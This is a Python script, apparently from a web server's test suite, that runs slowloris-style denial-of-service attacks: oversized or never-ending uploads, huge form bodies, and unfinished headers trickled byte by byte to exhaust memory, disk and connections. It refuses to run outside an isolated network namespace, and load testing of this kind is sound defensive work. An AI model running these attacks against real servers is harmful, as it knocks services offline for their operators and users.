"""An attack, run as a separate program: `attack.py NAME [PATH COOKIE]`.

It opens a limited number of connections, holds them open as long as the server allows, reopens
closed ones at a limited rate, and ends when its standard input is closed. It prints `ready` when
every connection has been tried.
"""

import itertools
import os
import resource
import selectors
import sys
import time
from dataclasses import dataclass
from typing import Callable

import hosts

MOST_SECONDS = 120
TURN_SECONDS = 0.02
TURNS = 25  # between two checks for connections that must send another byte


STRANGER = "/sessions/nonexistent/files/photo"


def post(path: str, kind: str, length: int, cookie: str = "") -> bytes:
    """Returns the head of a POST request."""
    lines = [
        f"POST {path} HTTP/1.1", f"Host: {hosts.SERVER}:{hosts.PORT}", f"Content-Type: {kind}",
        f"Content-Length: {length}",
    ]
    if cookie:
        lines.append(f"Cookie: {cookie}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n"


def part(name: str, extra: str, content: bytes) -> bytes:
    """Returns a part of a multipart form."""
    head = f'--b\r\nContent-Disposition: form-data; name="{name}"{extra}\r\n\r\n'
    return head.encode() + content + b"\r\n"


def upload(body: bytes, length: int, path: str = STRANGER, cookie: str = "") -> bytes:
    """Returns an upload that announces more bytes than it sends."""
    return post(path, "multipart/form-data; boundary=b", length, cookie) + body


def texts() -> bytes:
    """Returns an upload of 490 fields, 65,500 bytes each, for a session that does not exist."""
    body = b"".join(part(f"f{index}", "", b"x" * 65_500) for index in range(490))
    return upload(body, len(body) + 1_000)


def file(byte_count: int, length: int = 60_000_000, path: str = STRANGER, cookie: str = "") -> bytes:
    """Returns an upload that starts with part of a file and never ends."""
    body = part("photo", '; filename="x"', b"x" * byte_count)
    return upload(body, length, path, cookie)


def form() -> bytes:
    """Returns 990 kB of a form for a session that does not exist."""
    head = post("/sessions/nonexistent/steps/q", "application/x-www-form-urlencoded", 1_000_000)
    return head + b"f=" + b"x" * 990_000


@dataclass(frozen=True)
class Plan:
    """The number of connections and addresses, and the payload of each connection.

    Once all connections have been opened, at most `anew` of them are reopened per turn.
    """

    connections: int
    addresses: int
    payload: Callable[..., bytes]
    anew: int = 2


PLANS = {
    "memory": Plan(30, 1, texts),
    "forms": Plan(891, 45, form),
    "disk": Plan(6, 1, lambda: file(40 << 20)),
    "own": Plan(40, 1, lambda path, cookie: file(20 << 20, 60_000_000, path, cookie)),
    "connections": Plan(4_099, 45, lambda: file(60_000)),
    "heads": Plan(4_099, 45, lambda: b"GET / HTTP/1.1\r\nX: ", 20),
}


class Attack:
    """The connections of a plan."""

    def __init__(self, plan: Plan, *arguments: str):
        self.plan = plan
        self.payload = memoryview(plan.payload(*arguments))
        self.selector = selectors.DefaultSelector()
        self.waiting = list(range(plan.connections))

    def open(self, number: int) -> None:
        """Opens a connection; if that takes longer than 50 ms, tries again later."""
        source = hosts.attacker(number % self.plan.addresses)
        try:
            connection = hosts.connect(source, 0.05)
        except OSError:
            self.waiting.append(number)
            return
        connection.setblocking(False)
        events = selectors.EVENT_READ | selectors.EVENT_WRITE
        self.selector.register(connection, events, [number, self.payload, 0.0])

    def move(self, key: selectors.SelectorKey, events: int) -> None:
        """Sends as much as the server accepts; closes answered and closed connections."""
        connection, state = key.fileobj, key.data
        try:
            if events & selectors.EVENT_READ:
                connection.recv(65_536)
                return self.close(connection, state[0])
            if state[1]:
                state[1] = state[1][connection.send(state[1][:1 << 20]):]
            if not state[1]:
                self.selector.modify(connection, selectors.EVENT_READ, state)
                state[2] = time.monotonic() + 5
        except BlockingIOError:
            pass
        except OSError:
            self.close(connection, state[0])

    def trickle(self) -> None:
        """Sends another byte on connections that have been quiet for five seconds."""
        now = time.monotonic()
        for key in list(self.selector.get_map().values()):
            if key.data[2] and key.data[2] < now:
                key.data[1] = memoryview(b"x")
                key.data[2] = 0.0
                events = selectors.EVENT_READ | selectors.EVENT_WRITE
                self.selector.modify(key.fileobj, events, key.data)

    def close(self, connection, number: int) -> None:
        """Closes a connection, to be reopened later."""
        self.selector.unregister(connection)
        connection.close()
        self.waiting.append(number)

    def spend(self, seconds: float) -> None:
        """Sends and receives on all connections for a while."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            for key, events in self.selector.select(left):
                self.move(key, events)

    def run(self, goes_on: Callable[[], bool]) -> None:
        """Attacks while `goes_on` returns true, for at most MOST_SECONDS."""
        end = time.monotonic() + MOST_SECONDS
        first = self.plan.connections
        for turn in itertools.count():
            if time.monotonic() > end or not goes_on():
                break
            anew = min(len(self.waiting), max(8, self.plan.anew) if first > 0 else self.plan.anew)
            first -= anew
            batch, self.waiting = self.waiting[:anew], self.waiting[anew:]
            for number in batch:
                self.open(number)
            self.spend(TURN_SECONDS)
            if turn % TURNS == 0:
                self.trickle()
            if first <= 0 and first + anew > 0:
                print("ready", flush=True)


def main() -> None:
    """Runs the named plan, if no other machine can be reached."""
    if not hosts.is_alone():
        sys.exit("attack.py only runs in a network namespace of its own")
    os.nice(19)  # attackers on other machines would take no processor time from the server
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    parent = selectors.DefaultSelector()
    parent.register(sys.stdin, selectors.EVENT_READ)
    Attack(PLANS[sys.argv[1]], *sys.argv[2:]).run(lambda: not parent.select(0))


if __name__ == "__main__":
    main()
